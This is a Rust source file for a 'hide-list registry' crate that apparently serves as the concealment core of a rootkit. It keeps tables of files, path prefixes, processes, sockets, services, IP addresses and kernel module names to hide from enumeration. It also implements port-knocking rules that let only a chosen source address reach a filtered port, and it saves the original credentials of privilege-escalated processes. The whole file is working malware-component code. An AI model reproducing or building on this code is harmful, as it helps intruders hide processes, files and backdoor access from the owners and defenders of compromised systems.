//! # Hide-list registry
//!
//! This crate holds the membership tables consulted by the enumeration
//! filter: which paths, prefixes, processes, sockets, addresses and module
//! names should be withheld from callers, plus the saved credential sets of
//! escalated processes.
//!
//! All tables live inside a single [`Registry`] context object. Each table
//! is guarded by its own lock, and every mutation is additionally gated by
//! a `loaded` flag: once [`Registry::unload`] runs, mutations fail with
//! [`RegistryError::NotLoaded`] while queries keep answering (with empty
//! tables) so in-flight filter calls never have to special-case teardown.
//!
//! Queries are deliberately lock-scoped and short. The registry never
//! caches derived answers; the filter engine re-asks on every call because
//! the tables may change between calls.

use std::{
    collections::{HashMap, HashSet},
    net::Ipv4Addr,
    sync::{
        Mutex,
        atomic::{AtomicBool, Ordering},
    },
};

use thiserror::Error;

mod credentials;

pub use credentials::SavedCreds;
pub use nix::unistd::Pid;

/// Longest path accepted by [`Registry::hide_path`].
pub const MAX_PATH_LEN: usize = 1023;
/// Longest prefix accepted by [`Registry::hide_prefix`].
pub const MAX_PREFIX_LEN: usize = 63;
/// Longest module name accepted by [`Registry::hide_module`].
pub const MAX_MODULE_LEN: usize = 63;

#[derive(Debug, Error, PartialEq, Eq)]
pub enum RegistryError {
    #[error("registry is not loaded")]
    NotLoaded,
    #[error("entry is already present")]
    AlreadyPresent,
    #[error("entry not found")]
    NotFound,
    #[error("value exceeds the {limit} byte limit")]
    TooLong { limit: usize },
    #[error("0 is not a valid port")]
    InvalidPort,
    #[error("negative pid {0} rejected")]
    InvalidPid(i32),
    #[error("0.0.0.0 is reserved and cannot be a knock source")]
    ReservedAddress,
}

/// Transport protocol of a socket or knock entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Protocol {
    Tcp,
    Udp,
}

/// A port-knocking rule: traffic to `port`/`protocol` is filtered unless it
/// comes from the source address that knocked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct KnockRule {
    port: u16,
    protocol: Protocol,
    source: Ipv4Addr,
}

/// Context object owning every hide-list.
///
/// Created loaded. [`Registry::unload`] empties all tables and rejects
/// further mutation until [`Registry::load`] is called again.
pub struct Registry {
    loaded: AtomicBool,
    paths: Mutex<HashSet<String>>,
    prefixes: Mutex<Vec<String>>,
    pids: Mutex<HashSet<Pid>>,
    sockets: Mutex<HashSet<(Protocol, u16)>>,
    knock_ports: Mutex<HashSet<(Protocol, u16)>>,
    services: Mutex<HashSet<u16>>,
    ips: Mutex<HashSet<Ipv4Addr>>,
    modules: Mutex<HashSet<String>>,
    knock_rules: Mutex<Vec<KnockRule>>,
    escalated: Mutex<HashMap<Pid, SavedCreds>>,
}

impl Default for Registry {
    fn default() -> Self {
        Self::new()
    }
}

impl Registry {
    pub fn new() -> Self {
        Self {
            loaded: AtomicBool::new(true),
            paths: Mutex::default(),
            prefixes: Mutex::default(),
            pids: Mutex::default(),
            sockets: Mutex::default(),
            knock_ports: Mutex::default(),
            services: Mutex::default(),
            ips: Mutex::default(),
            modules: Mutex::default(),
            knock_rules: Mutex::default(),
            escalated: Mutex::default(),
        }
    }

    pub fn is_loaded(&self) -> bool {
        self.loaded.load(Ordering::Acquire)
    }

    /// Re-enable mutations after an [`Registry::unload`].
    pub fn load(&self) {
        self.loaded.store(true, Ordering::Release);
        log::debug!("hide-list registry loaded");
    }

    /// Gate off mutations and clear every table.
    ///
    /// The gate is flipped before the tables are emptied, so a concurrent
    /// mutator either completes fully before the unload or fails with
    /// [`RegistryError::NotLoaded`].
    pub fn unload(&self) {
        self.loaded.store(false, Ordering::Release);
        self.paths.lock().unwrap().clear();
        self.prefixes.lock().unwrap().clear();
        self.pids.lock().unwrap().clear();
        self.sockets.lock().unwrap().clear();
        self.knock_ports.lock().unwrap().clear();
        self.services.lock().unwrap().clear();
        self.ips.lock().unwrap().clear();
        self.modules.lock().unwrap().clear();
        self.knock_rules.lock().unwrap().clear();
        self.escalated.lock().unwrap().clear();
        log::debug!("hide-list registry unloaded");
    }

    fn check_loaded(&self) -> Result<(), RegistryError> {
        if self.is_loaded() {
            Ok(())
        } else {
            Err(RegistryError::NotLoaded)
        }
    }

    // ----- hidden paths -------------------------------------------------

    pub fn is_path_hidden(&self, path: &str) -> bool {
        self.paths.lock().unwrap().contains(path)
    }

    pub fn hide_path(&self, path: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        if path.len() > MAX_PATH_LEN {
            return Err(RegistryError::TooLong {
                limit: MAX_PATH_LEN,
            });
        }
        insert_unique(&mut self.paths.lock().unwrap(), path.to_string())
    }

    pub fn unhide_path(&self, path: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.paths.lock().unwrap(), path)
    }

    // ----- hidden prefixes ----------------------------------------------

    /// Exact membership test, used to reject duplicate inserts.
    pub fn is_prefix_hidden(&self, prefix: &str) -> bool {
        self.prefixes.lock().unwrap().iter().any(|p| p == prefix)
    }

    /// True when `s` starts with any registered prefix. The filter engine
    /// calls this once per path level, so a bare string-prefix match here
    /// gives prefix hiding at every depth of the walked path.
    pub fn matches_hidden_prefix(&self, s: &str) -> bool {
        self.prefixes
            .lock()
            .unwrap()
            .iter()
            .any(|p| s.starts_with(p.as_str()))
    }

    pub fn hide_prefix(&self, prefix: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        if prefix.len() > MAX_PREFIX_LEN {
            return Err(RegistryError::TooLong {
                limit: MAX_PREFIX_LEN,
            });
        }
        if self.is_prefix_hidden(prefix) {
            return Err(RegistryError::AlreadyPresent);
        }
        self.prefixes.lock().unwrap().push(prefix.to_string());
        Ok(())
    }

    pub fn unhide_prefix(&self, prefix: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        let mut prefixes = self.prefixes.lock().unwrap();
        match prefixes.iter().position(|p| p == prefix) {
            Some(i) => {
                prefixes.remove(i);
                Ok(())
            }
            None => Err(RegistryError::NotFound),
        }
    }

    // ----- hidden processes ---------------------------------------------

    /// Exact pid membership. Walking the ancestor chain is the caller's
    /// concern; the registry only answers for the pid it is given.
    pub fn is_pid_hidden(&self, pid: Pid) -> bool {
        self.pids.lock().unwrap().contains(&pid)
    }

    pub fn hide_pid(&self, pid: Pid) -> Result<(), RegistryError> {
        self.check_loaded()?;
        if pid.as_raw() < 0 {
            return Err(RegistryError::InvalidPid(pid.as_raw()));
        }
        insert_unique(&mut self.pids.lock().unwrap(), pid)
    }

    pub fn unhide_pid(&self, pid: Pid) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.pids.lock().unwrap(), &pid)
    }

    // ----- hidden sockets -----------------------------------------------

    pub fn is_socket_hidden(&self, protocol: Protocol, port: u16) -> bool {
        self.sockets.lock().unwrap().contains(&(protocol, port))
    }

    pub fn hide_socket(&self, protocol: Protocol, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        check_port(port)?;
        insert_unique(&mut self.sockets.lock().unwrap(), (protocol, port))
    }

    pub fn unhide_socket(&self, protocol: Protocol, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.sockets.lock().unwrap(), &(protocol, port))
    }

    // ----- knock-enabled ports ------------------------------------------

    pub fn is_knock_enabled(&self, protocol: Protocol, port: u16) -> bool {
        self.knock_ports.lock().unwrap().contains(&(protocol, port))
    }

    pub fn enable_knocking(&self, protocol: Protocol, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        check_port(port)?;
        insert_unique(&mut self.knock_ports.lock().unwrap(), (protocol, port))
    }

    pub fn disable_knocking(&self, protocol: Protocol, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.knock_ports.lock().unwrap(), &(protocol, port))
    }

    // ----- hidden services ----------------------------------------------

    pub fn is_service_hidden(&self, port: u16) -> bool {
        self.services.lock().unwrap().contains(&port)
    }

    pub fn hide_service(&self, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        check_port(port)?;
        insert_unique(&mut self.services.lock().unwrap(), port)
    }

    pub fn unhide_service(&self, port: u16) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.services.lock().unwrap(), &port)
    }

    // ----- hidden addresses ---------------------------------------------

    pub fn is_ip_hidden(&self, addr: Ipv4Addr) -> bool {
        self.ips.lock().unwrap().contains(&addr)
    }

    pub fn hide_ip(&self, addr: Ipv4Addr) -> Result<(), RegistryError> {
        self.check_loaded()?;
        insert_unique(&mut self.ips.lock().unwrap(), addr)
    }

    pub fn unhide_ip(&self, addr: Ipv4Addr) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.ips.lock().unwrap(), &addr)
    }

    // ----- hidden modules -----------------------------------------------

    pub fn is_module_hidden(&self, name: &str) -> bool {
        self.modules.lock().unwrap().contains(name)
    }

    pub fn hide_module(&self, name: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        if name.len() > MAX_MODULE_LEN {
            return Err(RegistryError::TooLong {
                limit: MAX_MODULE_LEN,
            });
        }
        insert_unique(&mut self.modules.lock().unwrap(), name.to_string())
    }

    pub fn unhide_module(&self, name: &str) -> Result<(), RegistryError> {
        self.check_loaded()?;
        remove_present(&mut self.modules.lock().unwrap(), name)
    }

    // ----- port-knock rules ---------------------------------------------

    /// True when a rule exists for `port`/`protocol` and `source` is not
    /// the address that knocked. Traffic from the knocked source is the
    /// only traffic allowed through.
    pub fn is_port_filtered(&self, port: u16, protocol: Protocol, source: Ipv4Addr) -> bool {
        self.knock_rules
            .lock()
            .unwrap()
            .iter()
            .any(|r| r.port == port && r.protocol == protocol && r.source != source)
    }

    /// Install a knock rule. At most one rule per `port`/`protocol` pair;
    /// the unspecified address is reserved as the "no rule" sentinel and
    /// rejected as a source.
    pub fn filter_port(
        &self,
        port: u16,
        protocol: Protocol,
        source: Ipv4Addr,
    ) -> Result<(), RegistryError> {
        self.check_loaded()?;
        check_port(port)?;
        if source == Ipv4Addr::UNSPECIFIED {
            return Err(RegistryError::ReservedAddress);
        }
        let mut rules = self.knock_rules.lock().unwrap();
        if rules.iter().any(|r| r.port == port && r.protocol == protocol) {
            return Err(RegistryError::AlreadyPresent);
        }
        rules.push(KnockRule {
            port,
            protocol,
            source,
        });
        Ok(())
    }

    pub fn unfilter_port(&self, port: u16, protocol: Protocol) -> Result<(), RegistryError> {
        self.check_loaded()?;
        let mut rules = self.knock_rules.lock().unwrap();
        match rules
            .iter()
            .position(|r| r.port == port && r.protocol == protocol)
        {
            Some(i) => {
                rules.remove(i);
                Ok(())
            }
            None => Err(RegistryError::NotFound),
        }
    }

    // ----- escalated identities -----------------------------------------

    pub fn is_escalated(&self, pid: Pid) -> bool {
        self.escalated.lock().unwrap().contains_key(&pid)
    }

    pub fn saved_creds(&self, pid: Pid) -> Option<SavedCreds> {
        self.escalated.lock().unwrap().get(&pid).copied()
    }

    /// Record the pre-escalation credentials of `pid`. At most one saved
    /// set per pid; a second insert fails instead of overwriting, so the
    /// original identity survives repeated escalation attempts.
    pub fn record_escalation(&self, pid: Pid, creds: SavedCreds) -> Result<(), RegistryError> {
        self.check_loaded()?;
        let mut escalated = self.escalated.lock().unwrap();
        if escalated.contains_key(&pid) {
            return Err(RegistryError::AlreadyPresent);
        }
        escalated.insert(pid, creds);
        Ok(())
    }

    /// Drop the saved set for `pid` and hand it back for restoration.
    pub fn clear_escalation(&self, pid: Pid) -> Result<SavedCreds, RegistryError> {
        self.check_loaded()?;
        self.escalated
            .lock()
            .unwrap()
            .remove(&pid)
            .ok_or(RegistryError::NotFound)
    }
}

fn check_port(port: u16) -> Result<(), RegistryError> {
    if port == 0 {
        Err(RegistryError::InvalidPort)
    } else {
        Ok(())
    }
}

fn insert_unique<T: std::hash::Hash + Eq>(
    set: &mut HashSet<T>,
    value: T,
) -> Result<(), RegistryError> {
    if set.insert(value) {
        Ok(())
    } else {
        Err(RegistryError::AlreadyPresent)
    }
}

fn remove_present<T, Q>(set: &mut HashSet<T>, value: &Q) -> Result<(), RegistryError>
where
    T: std::hash::Hash + Eq + std::borrow::Borrow<Q>,
    Q: std::hash::Hash + Eq + ?Sized,
{
    if set.remove(value) {
        Ok(())
    } else {
        Err(RegistryError::NotFound)
    }
}
